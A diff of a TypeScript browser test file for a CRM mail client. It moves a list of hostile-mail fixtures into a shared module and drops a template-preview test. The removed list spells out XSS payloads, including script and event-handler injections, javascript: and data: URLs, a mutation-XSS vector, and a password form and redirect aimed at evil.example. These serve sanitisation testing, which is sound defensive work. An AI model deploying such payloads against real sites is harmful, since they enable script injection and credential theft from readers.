@@ -4,23 +4,10 @@ import type { AddressInfo } from "node:net";
 import type { Locator, Page } from "playwright-core";
 import { expect, test } from "vitest";
 import { signatureHeaders } from "../../../server/src/platform/crypto/webhook-signature.ts";
+import { DOT, XSS } from "../hostile-mail.ts";
 import { expectAccessible, inBrowser, PHONE, row, settled } from "../support.ts";
 
 const SECRET = `whsec_${Buffer.alloc(24, 7).toString("base64")}`;
-/** What a mail might bring to run something in the browser of whoever reads it. */
-const XSS = [
-  "<script>window.hit=3</script>",
-  `<p onclick="window.hit=4" style="position:fixed;inset:0">Over all</p>`,
-  "<svg onload=window.hit=5><script>window.hit=6</script></svg>",
-  `<iframe srcdoc="<script>parent.hit=7</script>"></iframe>`,
-  `<a href="java\nscript:window.hit=8">a</a><a href="data:text/html,<script>opener.hit=9</script>">b</a>`,
-  `<form action="https://evil.example"><input name="password"></form><meta http-equiv="refresh" content="0;url=https://evil.example">`,
-  "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=10></style></mglyph></table></mtext></math>",
-  "<template><img src=x onerror=window.hit=11></template><object data='javascript:window.hit=12'></object>",
-  "<style>*{display:none}</style><link rel=stylesheet href='https://evil.example/x.css'>",
-];
-/** The smallest image. */
-const DOT = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
 
 async function choose(page: Page, field: Locator, option: string): Promise<void> {
   await field.click();
@@ -400,16 +387,6 @@ inBrowser(
       const moment = page.getByRole("listitem").filter({ hasText: "Ulla Mail wrote by a program" });
       await moment.getByRole("link", { name: "An offer" }).click();
       await open.getByRole("link", { name: "the shop" }).waitFor();
-    });
-
-    test("a template shows what it says to somebody", async () => {
-      const account = await harbour();
-      const { body } = await call("GET", `/v1/message-templates?account_id=${account}`);
-      const template = body.data.find(({ name }: { name: string }) => name === "Appointment reminder");
-      const page = await portal.open(`/crm/${account}/templates?open=${template.id}`);
-      await page.getByRole("combobox", { name: "To", exact: true }).fill("Amara");
-      await page.getByRole("option", { name: "Amara Abebe" }).click();
-      await page.getByText(/Hello Amara Abebe, we look forward/).waitFor();
     });
   },
   // The image of a mail, and servers that do not answer, are on this machine.
